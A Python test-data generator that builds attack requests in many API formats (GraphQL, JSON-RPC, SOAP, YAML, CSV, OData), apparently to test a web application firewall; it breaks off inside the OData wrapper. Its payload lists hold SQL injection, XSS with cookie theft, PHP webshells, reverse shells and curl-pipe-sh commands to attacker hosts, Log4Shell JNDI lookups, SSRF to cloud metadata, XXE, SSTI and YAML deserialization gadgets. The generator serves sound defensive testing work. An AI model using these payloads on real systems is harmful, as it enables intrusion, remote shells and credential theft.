"""Blind set 96: every family's payloads inside the request formats an API takes beyond plain JSON and forms.

The angle: an attacker who talks to the JSON API (/api/users, /api/users/42, /api/graphql, /api/rpc, /api/bulk,
/api/v1/items) in whatever format its endpoints accept, and the same formats carrying ordinary API traffic.

Formats (each one a wrapper; the sub-family is f"{format}-{family}", the placement names the format's variant):
  graphql       a query document's string arguments: inline, aliases, fragments, directives, mutations, block strings
  graphql-vars  variables as JSON beside the document, and batched arrays of operations
  graphql-get   GET /api/graphql?query=...&variables=...&operationName=...
  jsonrpc       JSON-RPC 2.0: params as array and as object, nested params, batches with notifications
  xmlrpc        XML-RPC methodCall: escaped strings, struct members, arrays, CDATA
  soap          SOAP 1.1 and 1.2 envelopes: namespaces, WS-Addressing headers, CDATA, attributes, header elements
  ndjson        NDJSON and JSON Lines bulk bodies (application/x-ndjson, application/jsonl)
  json-lenient  JSON with comments and trailing commas that lenient parsers take (application/json, json5)
  yaml          YAML bodies (application/yaml, application/x-yaml, text/yaml) with anchors, aliases, tags, blocks
  csv           CSV and TSV bodies (text/csv, text/tab-separated-values), cells quoted per RFC 4180
  jsonapi       JSON:API documents (attributes, relationships, links, meta; application/vnd.api+json)
  hal           HAL documents (_links, _embedded; application/hal+json)
  odata         OData query options ($filter, $orderby, $expand, $search, $select) and key segments
  msgpack       MessagePack or CBOR declared (application/msgpack, application/x-msgpack, application/cbor), text sent
  form-bracket  form bodies with bracketed names (user[profile][bio], tags[]=, filter[name][like]), and a name itself
  multipart     multipart/mixed, multipart/related and multipart/form-data with a JSON part
Families: sqli, xss, php, rce, lfi, rfi, java, generic (Node.js code, prototype pollution, SSRF, NoSQL, LDAP,
XPath), ssti; and XXE (category generic) in the two XML formats (soap-xxe, xmlrpc-xxe). Each (format, family)
pair takes 6 to 8 of its family's payloads, rotating through the list so each payload meets several formats;
yaml-java and yaml-rce add YAML tag gadgets (SnakeYAML, PyYAML, Psych) that only make sense in YAML.

The benign half: the same sixteen formats carrying ordinary API traffic (user and order queries, filters,
pagination, bulk imports of names and addresses, SOAP and XML-RPC calls, YAML configs with anchors, CSV exports with
quotes and commas, JSON:API and HAL documents, OData filters, bracketed forms, multipart uploads with a JSON part),
with names such as O'Brien, street names such as Union Street and notes such as "select the blue one".

Authorship and independence: written from general knowledge of each family and each format and from the set's
brief alone; no WAF rule, engine code, ruleset, ruleset regression test or public payload list was read, and no
other blind set. Measured once on unchanged code; no payload was changed after the measurement. Deterministic
(one seeded random source, no clock).
"""

from __future__ import annotations

import csv
import io
import json
import random
import urllib.parse
from collections.abc import Callable, Iterator
from typing import Any
from xml.sax.saxutils import escape, quoteattr

from .records import b64url, print_records

NAME = "ninetysixth"

# ----------------------------------------------------------------------------------------------------------------
# Payloads, one list per family (written from general knowledge)

SQLI = [
    "' OR '1'='1",
    "1' OR 1=1-- -",
    "admin'--",
    "1 UNION SELECT username, password_hash FROM users--",
    "' UNION ALL SELECT NULL,NULL,version()-- -",
    "1; DROP TABLE users--",
    "1' AND SLEEP(5)-- -",
    "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
    "'; WAITFOR DELAY '0:0:5'--",
    "1' AND 1=CONVERT(int,(SELECT @@version))--",
    "' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -",
    "1 AND updatexml(1,concat(0x7e,database()),1)",
    "' OR pg_sleep(5)--",
    "1' ORDER BY 10-- -",
    "' UNION SELECT table_name FROM information_schema.tables-- -",
    "1/**/UNION/**/SELECT/**/1,2,3",
    "1' AnD 1=1 UnIoN sElEcT 1,group_concat(column_name) fRoM information_schema.columns-- -",
    "'||(SELECT banner FROM v$version WHERE rownum=1)||'",
    "x' AND (SELECT COUNT(*) FROM sqlite_master)>0--",
    "'; EXEC xp_cmdshell 'whoami'--",
    "1' AND ASCII(SUBSTRING((SELECT email FROM users LIMIT 1),1,1))>64-- -",
    "1) OR (1=1",
    "'; INSERT INTO users(name,role) VALUES('x','admin')--",
    "1 AND benchmark(5000000,md5(1))",
    "' HAVING 1=1--",
    "' UNION SELECT load_file('/etc/passwd')-- -",
    "1 INTO OUTFILE '/var/www/html/s.php'",
    "name DESC, (CASE WHEN (1=1) THEN 1 ELSE 1/0 END)",
]

XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.domain)>",
    "<svg/onload=alert(1)>",
    "\"><script>fetch('//attacker.example/?c='+document.cookie)</script>",
    "javascript:alert(1)",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=alert(1)>",
    "<a href=\"#\" onclick=\"alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<ScRiPt>prompt(1)</sCrIpT>",
    "'-alert(1)-'",
    "\";alert(1);//",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<marquee onstart=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<img src=x onerror=&#97;lert(1)>",
    "<form action=javascript:alert(1)><button>go",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<script src=//attacker.example/x.js></script>",
    "{{constructor.constructor('alert(1)')()}}",
    "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
]

PHP = [
    "<?php system($_GET['cmd']); ?>",
    "<?= shell_exec('id') ?>",
    "<?php eval(base64_decode('c3lzdGVtKCJpZCIpOw==')); ?>",
    "php://filter/convert.base64-encode/resource=config.php",
    "php://input",
    "phar://uploads/avatar.jpg/x.php",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "expect://id",
    "assert($_POST['x']);",
    "preg_replace('/a/e','system(\"id\")','a')",
    "call_user_func('system','id')",
    "array_map('passthru',['id'])",
    "create_function('','system(\"id\");')",
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "a:1:{i:0;O:10:\"TempLogger\":1:{s:4:\"path\";s:9:\"shell.php\";}}",
    "${@system('id')}",
    "$_GET['a']($_GET['b'])",
    "passthru('cat /etc/passwd');",
    "proc_open('id',[],$p);",
    "file_put_contents('s.php','<?php system($_GET[0]);');",
    "include($_GET['page']);",
    "highlight_file('/etc/passwd');",
    "phpinfo();",
    "ini_set('allow_url_include','1');",
    "popen('id','r');",
    "$x=chr(115).chr(121).chr(115).'tem';$x('id');",
    "unserialize($_COOKIE['u'])",
]

RCE = [
    "; cat /etc/passwd",
    "| id",
    "&& whoami",
    "`id`",
    "$(id)",
    "; curl http://attacker.example/s.sh | sh",
    "| nc -e /bin/sh 203.0.113.7 4444",
    "; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "; wget -qO- http://attacker.example/x|sh",
    "x\nid",
    "|| ping -c 3 127.0.0.1",
    "; sleep 10",
    "$(cat${IFS}/etc/passwd)",
    ";c''at /et''c/pas''swd",
    "; /bin/ba\\sh -c id",
    "& type C:\\Windows\\win.ini",
    "| powershell -enc SQBFAFgA",
    "& cmd.exe /c dir",
    "; python3 -c 'import os;os.system(\"id\")'",
    "; perl -e 'exec \"/bin/sh\"'",
    "$(echo aWQ= | base64 -d)",
    "; uname -a #",
    "`rm -rf /tmp/x`",
    "; chmod +x /tmp/x; /tmp/x",
    "| ls -la /",
    "127.0.0.1; cat /etc/shadow",
]

LFI = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/shadow",
    "/proc/self/environ",
    "../../../../../etc/passwd%00.png",
    "%2e%2e%2f%2e%2e%2fetc%2fhosts",
    "..%252f..%252fetc%252fpasswd",
    "/var/log/nginx/access.log",
    "C:\\boot.ini",
    "file:///etc/passwd",
    "../../../../root/.ssh/id_rsa",
    "../../.env",
    "/proc/self/cmdline",
    "..%c0%af..%c0%afetc/passwd",
    "../../../WEB-INF/web.xml",
    "..;/..;/etc/passwd",
    "/../../../../../../etc/group",
    "%252e%252e%252fetc%252fpasswd",
    "....\\\\....\\\\windows\\system32\\drivers\\etc\\hosts",
    "/etc/passwd",
]

RFI = [
    "http://attacker.example/shell.txt?",
    "https://evil.example.net/x.php",
    "http://203.0.113.7/s.txt?",
    "ftp://attacker.example/payload.txt",
    "http://attacker.example/shell.txt%00",
    "//attacker.example/s.php",
    "\\\\attacker.example\\share\\x.php",
    "http://attacker.example/x.txt#",
    "https://pastebin.com/raw/abc123?",
    "hTtP://attacker.example/inc.txt",
    "http://attacker.example:8080/r57.txt?cmd=id",
    "http://198.51.100.23/c99.php",
    "http://attacker.example/shell.php?.jpg",
    "https://raw.githubusercontent.com/attacker/kit/main/s.php",
    "http://0xCB007107/x.txt",
    "http://attacker.example/inc.php?",
    "https://attacker.example/backdoor.txt??",
    "ftps://attacker.example/w.php",
]

JAVA = [
    "${jndi:ldap://attacker.example:1389/a}",
    "${jndi:rmi://198.51.100.4/obj}",
    "${jndi:dns://attacker.example/q}",
    "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://attacker.example/x}",
    "${${::-j}ndi:ldap://attacker.example/x}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/x}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://attacker.example/x}",
    "${jndi:ldap://${env:HOSTNAME}.attacker.example/x}",
    "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}",
    "%{#_memberAccess['allowStaticMethodAccess']=true,@java.lang.Runtime@getRuntime().exec('id')}",
    "(#context['xwork.MethodAccessor.denyMethodExecution']=false)",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{T(java.lang.Runtime).getRuntime().exec(\"whoami\")}",
    "T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id')"
    ".getInputStream(),T(java.nio.charset.Charset).defaultCharset())",
    "java.lang.Runtime.getRuntime().exec(\"sh -c id\")",
    "new java.lang.ProcessBuilder(new String[]{\"id\"}).start()",
    "Class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null)",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example/x\","
    "\"autoCommit\":true}",
    "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":\"jdbc:h2:mem:;INIT=RUNSCRIPT FROM "
    "'http://attacker.example/x.sql'\"}]",
    "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT",
    "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\">"
    "<void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>",
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    "javax.naming.InitialContext().lookup(\"ldap://attacker.example/x\")",
    "${pageContext.request.getSession().getServletContext()}",
]

GENERIC = [
    "require('child_process').execSync('id').toString()",
    "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
    "this.constructor.constructor('return process')().mainModule.require('child_process')",
    "new Function('return this.process.env')()",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "global.process.binding('spawn_sync')",
    "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp','base64').toString())",
    "Object.prototype.isAdmin = true",
    "__proto__[admin]=true",
    "constructor.prototype.role=admin",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://127.0.0.1:2375/containers/json",
    "http://[::1]:6379/",
    "http://0x7f000001:8080/actuator/env",
    "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www",
    "dict://localhost:11211/stats",
    "http://2130706433/admin",
    "'; return this.email.match(/.*/); var z='",
    "{\"$where\": \"sleep(5000) || true\"}",
    "{\"username\": {\"$ne\": null}, \"role\": {\"$gt\": \"\"}}",
    "*)(uid=*))(|(uid=*",
    "admin)(&(objectClass=*)",
    "' or name()='username' or 'x'='y",
    "setTimeout('require(\"child_process\").exec(\"id\")', 0)",
]

SSTI = [
    "{{7*7}}",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{c.__name__}}{% endfor %}",
    "${7*7}",
    "<%= 7*7 %>",
    "<%= `id` %>",
    "#{7*7}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))",
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "[[${7*7}]]",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "<%= system('id') %>",
    "{{['id']|filter('system')}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\"))",
]

# XXE: a DOCTYPE ahead of the XML format's root element (ROOT is replaced by it); &xx; sits in a field
XXE = [
    "<!DOCTYPE ROOT [<!ENTITY xx SYSTEM \"file:///etc/passwd\">]>",
    "<!DOCTYPE ROOT [<!ENTITY xx SYSTEM \"http://169.254.169.254/latest/meta-data/\">]>",
    "<!DOCTYPE ROOT [<!ENTITY % ext SYSTEM \"http://attacker.example/evil.dtd\"> %ext;]>",
    "<!DOCTYPE ROOT [<!ENTITY xx SYSTEM \"php://filter/convert.base64-encode/resource=/etc/hosts\">]>",
    "<!DOCTYPE ROOT SYSTEM \"http://attacker.example/x.dtd\">",
    "<!DOCTYPE ROOT [<!ENTITY xx SYSTEM \"expect://id\">]>",
    "<!DOCTYPE ROOT [<!ELEMENT ROOT ANY><!ENTITY xx SYSTEM \"file:///c:/windows/win.ini\">]>",
    "<!DOCTYPE ROOT [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
    "<!ENTITY xx \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]>",
    "<!DOCTYPE ROOT [<!ENTITY xx PUBLIC \"-//X//EN\" \"http://attacker.example/p\">]>",
    "<!DOCTYPE ROOT [<!ENTITY xx SYSTEM \"netdoc:///etc/passwd\">]>",
    "<!DOCTYPE ROOT [<!ENTITY xx SYSTEM \"jar:http://attacker.example/a.jar!/x\">]>",
]

# YAML tags that build objects on load: only meaningful in a YAML body
YAML_JAVA = [
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
    "[\"http://attacker.example/yaml.jar\"]]]]",
    "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://attacker.example/x\", autoCommit: true}",
    "!!org.springframework.context.support.ClassPathXmlApplicationContext [\"http://attacker.example/b.xml\"]",
]
YAML_RCE = [
    "!!python/object/apply:os.system [\"id\"]",
    "!!python/object/apply:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]",
    "!ruby/object:Gem::Requirement {requirements: !ruby/object:Gem::Package::TarReader {io: \"|id\"}}",
]

FAMILIES: dict[str, list[str]] = {
    "sqli": SQLI, "xss": XSS, "php": PHP, "rce": RCE, "lfi": LFI, "rfi": RFI, "java": JAVA, "generic": GENERIC,
    "ssti": SSTI,
}
# the field an API would feed each family's payload to
FIELDS: dict[str, list[str]] = {
    "sqli": ["id", "search", "name", "sort", "filter", "email"],
    "xss": ["bio", "displayName", "comment", "title", "description", "name"],
    "php": ["data", "template", "code", "note", "callback", "value"],
    "rce": ["host", "filename", "target", "command", "domain", "archive"],
    "lfi": ["file", "path", "template", "attachment", "include", "document"],
    "rfi": ["url", "include", "page", "source", "template", "feed"],
    "java": ["name", "message", "expression", "userAgent", "subject", "payload"],
    "generic": ["callback", "url", "webhook", "filter", "expression", "username"],
    "ssti": ["template", "greeting", "subject", "message", "signature", "body"],
}

UAS = [
    "curl/8.5.0",
    "python-requests/2.31.0",
    "okhttp/4.12.0",
    "axios/1.6.8",
    "Go-http-client/2.0",
    "PostmanRuntime/7.37.3",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
    "Safari/537.36",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)",
]

Req = dict[str, Any]
Wrapper = Callable[[str, int, str], tuple[Req, str]]


class Api:
    """The seeded random source and the request builders every format shares."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def headers(self, content_type: str | None, accept: str = "application/json") -> dict[str, str]:
        h = {"User-Agent": self.rng.choice(UAS), "Accept": accept, "Accept-Encoding": "gzip, deflate",
             "Authorization": "Bearer " + b64url(self.rng.randbytes(30)),
             "X-Request-Id": "".join(self.rng.choice("0123456789abcdef") for _ in range(16))}
        if content_type:
            h["Content-Type"] = content_type
        return h

    def post(self, uri: str, body: str, content_type: str, method: str = "POST",
             extra: dict[str, str] | None = None, accept: str = "application/json") -> Req:
        return {"method": method, "uri": uri, "body": body,
                "headers": {**self.headers(content_type, accept), **(extra or {})}}

    def get(self, uri: str, accept: str = "application/json") -> Req:
        return {"method": "GET", "uri": uri, "body": "", "headers": self.headers(None, accept)}


def jdump(doc: Any) -> str:
    return json.dumps(doc, ensure_ascii=False)


def qs(params: list[tuple[str, str]]) -> str:
    return urllib.parse.urlencode(params, quote_via=urllib.parse.quote, safe="$(),'")


def cdata(text: str) -> str:
    return f"<![CDATA[{text}]]>" if "]]>" not in text else escape(text)


def yaml_dq(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def yaml_block(text: str, indent: str) -> str:
    return "|\n" + "\n".join(indent + line for line in text.split("\n"))


def csv_text(rows: list[list[str]], delimiter: str = ",") -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


def gql_block(text: str) -> str:
    if '"""' in text or "\\" in text:
        return jdump(text)
    return '"""' + text + '"""'


# ----------------------------------------------------------------------------------------------------------------
# Attack wrappers: (payload, index, family) -> (request, placement)

class Attacks(Api):

    def field(self, fam: str, i: int) -> str:
        return FIELDS[fam][i % len(FIELDS[fam])]

    def graphql(self, p: str, i: int, fam: str) -> tuple[Req, str]:
        f = self.field(fam, i)
        lit = jdump(p)
        docs = [
            f"query {{ users({f}: {lit}, first: 20) {{ id name email }} }}",
            f"query Search {{ hits: users({f}: {lit}) {{ id }} recent: orders(first: 5) {{ id total }} }}",
            f"query {{ user({f}: {lit}) {{ ...UserCard }} }}\nfragment UserCard on User {{ id name avatarUrl }}",
            f"query {{ me {{ id bio @include(if: true) }} search(term: {lit}) @skip(if: false) {{ __typename }} }}",
            f"mutation {{ updateProfile(input: {{{f}: {lit}, locale: \"en-GB\"}}) {{ id {f} }} }}",
            f"mutation {{ createItem(input: {{name: \"Desk lamp\", {f}: {gql_block(p)}}}) {{ id }} }}",
        ]
        doc = docs[i % len(docs)]
        return self.post("/api/graphql", jdump({"query": doc}), "application/json"), "graphql-query"

    def graphql_vars(self, p: str, i: int, fam: str) -> tuple[Req, str]:
        f = self.field(fam, i)
        k = i % 4
        if k == 0:
            body: Any = {"operationName": "Find", "query": "query Find($v: String!) { users(filter: $v) { id name } }",
                         "variables": {"v": p}}
            place = "graphql-variables"
        elif k == 1:
            body = {"query": "mutation Save($input: ProfileInput!) { saveProfile(input: $input) { id } }",
                    "variables": {"input": {"name": "Ann Lee", f: p, "tags": ["staff"]}}}
            place = "graphql-variables"
        elif k == 2:
            body = [{"operationName": "Me", "query": "query Me { me { id name } }", "variables": {}},
                    {"operationName": "Lookup", "query": "query Lookup($q: String) { search(term: $q) { id } }",
                     "variables": {"q": p}}]
            place = "graphql-batch"
        else:
            body = [{"query": "query { orders(first: 3) { id } }"},
                    {"query": "mutation M($x: ItemInput!) { createItem(input: $x) { id } }",
                     "variables": {"x": {"sku": "LMP-204", "meta": {f: p}}}},
                    {"query": "query { __typename }"}]
            place = "graphql-batch"
        return self.post("/api/graphql", jdump(body), "application/json"), place

    def graphql_get(self, p: str, i: int, fam: str) -> tuple[Req, str]:
        f = self.field(fam, i)
        if i % 2 == 0:
            params = [("query", f"query Q {{ users({f}: {jdump(p)}) {{ id name }} }}"), ("operationName", "Q")]
        else:
            params = [("query", "query Q($v: String) { users(search: $v) { id name } }"),
                      ("variables", jdump({"v": p})), ("operationName", "Q")]
        return self.get("/api/graphql?" + qs(params)), "graphql-get"

    def jsonrpc(self, p: str, i: int, fam: str) -> tuple[Req, str]:
        f = self.field(fam, i)
        k = i % 4
        if k == 0:
            body: Any = {"jsonrpc": "2.0", "method": "users.search", "params": [p, 20, 0], "id": 100 + i}
            place = "jsonrpc-params-array"
        elif k == 1:
            body = {"jsonrpc": "2.0", "method": "users.update", "params": {"id": 42, f: p}, "id": f"req-{i}"}
            place = "jsonrpc-params-object"
        elif k == 2:
            body = {"jsonrpc": "2.0", "method": "items.query", "params": {"filter": {f: p}, "limit": 50}, "id": i}
            place = "jsonrpc-params-nested"
        else:
            body = [{"jsonrpc": "2.0", "method": "session.ping"},
                    {"jsonrpc": "2.0", "method": "users.get", "params": [42], "id": 1},
                    {"jsonrpc": "2.0", "method": "reports.render", "params": {f: p, "format": "pdf"}, "id": 2}]
            place = "jsonrpc-batch"
        return self.post("/api/rpc", jdump(body), "application/json"), place

    def xmlrpc(self, p: str, i: int, fam: str) -> tuple[Req, str]:
        f = self.field(fam, i)
        k = i % 4
        if k == 0:
            params = (f"<param><value><string>{escape(p)}</string></value></param>"
                      "<param><value><int>20</int></value></param>")
            place = "xmlrpc-string"
        elif k == 1:
            params = ("<param><value><struct><member><name>id</name><value><int>42</int></value></member>"
                      f"<member><name>{f}</name><value><string>{escape(p)}</string></value></member>"
                      "</struct></value></param>")
            place = "xmlrpc-struct"
        elif k == 2:
            params = f"<param><value>{cdata(p)}</value></param>"
            place = "xmlrpc-cdata"
        else:
            params = ("<param><value><array><data><value><string>ann</string></value>"
                      f"<value><string>{escape(p)}</string></value></data></array></value></param>")
            place = "xmlrpc-array"
        body = (f'<?xml version="1.0"?>\n<methodCall><methodName>users.{f}</methodName>'
                f"<params>{params}</params></methodCall>")
        return self.post("/api/rpc", body, "text/xml", accept="text/xml"), place

    def soap_envelope(self, inner: str, header: str, v12: bool) -> str:
        ns = "http://www.w3.org/2003/05/soap-envelope" if v12 else "http://schemas.xmlsoap.org/soap/envelope/"
        return ('<?xml version="1.0" encoding="UTF-8"?>\n'
                f'<soap:Envelope xmlns:soap="{ns}" xmlns:it="urn:example:items:v1" '
                'xmlns:wsa="http://www.w3.org/2005/08/addressing">'
                f"<soap:Header>{header}</soap:Header><soap:Body>{inner}</soap:Body></soap:Envelope>")

    def soap_request(self, body: str, v12: bool, action: str) -> Req:
        if v12:
            return self.post("/api/v1/items", body, f'application/soap+xml; charset=utf-8; action="{action}"',
                             accept="application/soap+xml")
        return self.post("/api/v1/items", body, "text/xml; charset=utf-8", extra={"SOAPAction": f'"{action}"'},
                         accept="text/xml")

    def soap(self, p: str, i: int, fam: str) -> tuple[Req, str]:
        f = self.field(fam, i)
        v12 = i % 2 == 1
        header = "<wsa:Action>urn:example:items:v1/Search</wsa:Action><wsa:MessageID>uuid:1</wsa:MessageID>"
        k = i % 4
        if k == 0:
            inner = f"<it:SearchItems><it:{f}>{escape(p)}</it:{f}><it:PageSize>20</it:PageSize></it:SearchItems>"
            place = "soap-body"
        elif k == 1:
            inner = f"<it:UpdateItem><it:Id>42</it:Id><it:{f}>{cdata(p)}</it:{f}></it:UpdateItem>"
            place = "soap-cdata"
        elif k == 2:
            inner = f"<it:GetItem it:{f}={quoteattr(p)} it:version=\"3\"/>"
            place = "soap-attribute"
        else:
            header += f"<it:ClientContext><it:{f}>{escape(p)}</it:{f}></it:ClientContext>"
            inner = "<it:ListItems><it:PageSize>10</it:PageSize></it:ListItems>"
            place = "soap-header"
        return self.soap_request(self.soap_envelope(inner, header, v12), v12, "urn:example:items:v1/Search"), place

    def ndjson(self, p: str, i: int, fam: str) -> tuple[Req, str]:
        f = self.field(fam, i)
        lines = [jdump({"index": {"_id": str(1000 + i)}}), jdump({"name": "Maria Silva", "city": "Lisbon"}),
                 jdump({"index": {"_id": str(1001 + i)}}), jdump({"name": "Tom Baker", f: p}),
                 jdump({"index": {"_id": str(1002 + i)}}), jdump({"name": "Yuki Tanaka", "city": "Osaka"})]
        ctype = ["application/x-ndjson", "application/jsonl", "application/x-jsonlines"][i % 3]
        return self.post("/api/bulk", "\n".join(lines) + "\n", ctype), "ndjson"

    def json_lenient(self, p: str, i: int, fam: str) -> tuple[Req, str]:
        f = self.field(fam, i)
        v = jdump(p)
        k = i % 3
        if k == 0:
            body = f'{{\n  // profile update from the mobile app\n  "name": "Ann Lee",\n  "{f}": {v},\n}}\n'
        elif k == 1:
            body = f'{{ /* v2 */ "items": [{{"sku": "A-1", "{f}": {v},}}, ], "dryRun": false, }}'
        else:
            body = f"{{\n  name: 'Ann Lee', // unquoted keys, json5\n  {f}: {v},\n  tags: ['a', 'b',],\n}}\n"
        ctype = "application/json5" if k == 2 else "application/json"
        uri = "/api/users/42" if i % 2 else "/api/users"
        return self.post(uri, body, ctype, method="PATCH" if i % 2 else "POST"), "json-lenient"

    def yaml(self, p: str, i: int, fam: str) -> tuple[Req, str]:
        f = self.field(fam, i)
        ctype = ["application/yaml", "application/x-yaml", "text/yaml"][i % 3]
        if p.startswith("!"):   # a tag gadget: the value itself
            body = f"kind: Import\nsource:\n  {f}: {p}\n"
            return self.post("/api/v1/items", body, ctype), "yaml-tag"
        k = i % 4
        if k == 0:
            body = (f"defaults: &defaults\n  owner: ops\n  region: eu-west-1\nitem:\n  <<: *defaults\n"
                    f"  {f}: {yaml_dq(p)}\n")
            place = "yaml-anchor"
        elif k == 1:
            body = f"item:\n  name: Desk lamp\n  {f}: {yaml_block(p, '    ')}\n  qty: 2\n"
            place = "yaml-block"
        elif k == 2:
            body = f"---\nitem:\n  {f}: !!str {yaml_dq(p)}\n  qty: !!int \"3\"\n...\n"
            place = "yaml-tag"
        else:
            body = f"users:\n  - name: Ann Lee\n    {f}: &v {yaml_dq(p)}\n  - name: Bo Chen\n    {f}: *v\n"
            place = "yaml-alias"
        return self.post("/api/v1/items", body, ctype), place

    def csv(self, p: str, i: int, fam: str) -> tuple[Req, str]:
        f = self.field(fam, i)
        tsv = i % 3 == 2
        rows = [["name", "email", f, "city"], ["Maria Silva", "maria@example.com", "ok", "Lisbon"],
                ["Tom Baker", "tom@example.org", p, "Leeds"]]
        if i % 2:   # the payload in the last column instead
            rows = [["name", "email", "status", f], ["Maria Silva", "maria@example.com", "active", "ok"],
                    ["Tom Baker", "tom@example.org", "active", p]]
        body = csv_text(rows, "\t" if tsv else ",")
        return (self.post("/api/bulk", body, "text/tab-separated-values" if tsv else "text/csv; charset=utf-8"),
                "tsv" if tsv else "csv")

    def jsonapi(self, p: str, i: int, fam: str) -> tuple[Req, str]:
        f = self.field(fam, i)
        k = i % 4
        data: dict[str, Any] = {"type": "users", "attributes": {"name": "Ann Lee"}}
        if k == 0:
            data["attributes"][f] = p
            place = "jsonapi-attributes"
        elif k == 1:
            data["relationships"] = {"company": {"data": {"type": "companies", "id": p}}}
            place = "jsonapi-relationships"
        elif k == 2:
            data["links"] = {"self": p}
            place = "jsonapi-links"
        else:
            data["attributes"]["profile"] = {"settings": {f: p}}
            place = "jsonapi-attributes"
        method, uri = ("PATCH", "/api/users/42") if i % 2 else ("POST", "/api/v1/items")
        if method == "PATCH":
            data["id"] = "42"
        return self.post(uri, jdump({"data": data}), "application/vnd.api+json", method=method,
                         accept="application/vnd.api+json"), place

    def hal(self, p: str, i: int, fam: str) -> tuple[Req, str]:
        f = self.field(fam, i)
        if i % 2 == 0:
            doc: dict[str, Any] = {"_links": {"self": {"href": "/api/v1/items/7"}}, "name": "Desk lamp", f: p}
            place = "hal-property"
        elif i % 4 == 1:
            doc = {"_links": {"self": {"href": p}, "owner": {"href": "/api/users/42"}}, "name": "Desk lamp"}
            place = "hal-links"
        else:
            doc = {"_links": {"self": {"href": "/api/v1/items"}},
                   "_embedded": {"items": [{"name": "Chair"}, {"name": "Lamp", f: p}]}}
            place = "hal-embedded"
        return self.post("/api/v1/items", jdump(doc), "application/hal+json", accept="application/hal+json"), place

    def odata(self, p: str, i: int, fam: str) -> tuple[Req, str]:
        k = i % 5
        if k == 0:
            params = [("$filter", f"Name eq '{p}'"), ("$top", "20")]
            place = "odata-filter"
        elif k == 1:
            params = [("$orderby", p), ("$select", "Id,Name")]
            place = "odata-orderby"
        elif k == 2:
            params = [("$expand", f"Orders($filter=Status eq '{p}')"), ("$top", "5")]
            place = "odata-expand"
        elif k == 3:
            params = [("$search", p), ("$count", "true")]
            place = "odata-search"
        else:
            key = urllib.parse.quote(f"'{p}'", safe="'()$,")
            return self.get(f"/api/v1/items({key})?$select=Id,Name"), "odata-key"
